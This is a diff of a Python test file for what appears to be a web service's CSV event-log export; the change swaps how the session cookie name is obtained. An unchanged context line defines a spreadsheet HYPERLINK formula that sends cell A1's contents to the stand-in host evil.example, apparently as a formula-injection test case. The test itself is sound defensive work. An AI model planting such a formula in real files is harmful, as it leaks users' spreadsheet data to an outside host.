@@ -14,7 +14,6 @@ import pytest
 from adapters.eventlogs.csv_log import read_csv, write_csv
 from engine.directory import Caller
 from engine.eventlog import LogEvent, Trace
-from service.pages.visiting import session_cookie
 from tests.service.office import INSTITUTION, Office
 
 FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
@@ -29,7 +28,7 @@ FILES: Final = (
 def fetch(desk: Office, path: str, *, language: str = "sv") -> tuple[bytes, str]:
     """A file as an auditor who also holds an office's role gets it, and the name it is to bear."""
     session = desk.house.sessions.begin(Caller(INSTITUTION, desk.ids["auditor"]))
-    cookie = f"{session_cookie(desk.house)}={session}; fardplan_language={language}"
+    cookie = f"{desk.house.settings.session_cookie}={session}; fardplan_language={language}"
     answer = desk.send("GET", path, None, {"Cookie": cookie, "Accept": "text/html"})
     assert answer.status_code == 200, (path, answer.text)
     return answer.content, answer.headers.get("content-disposition", "")
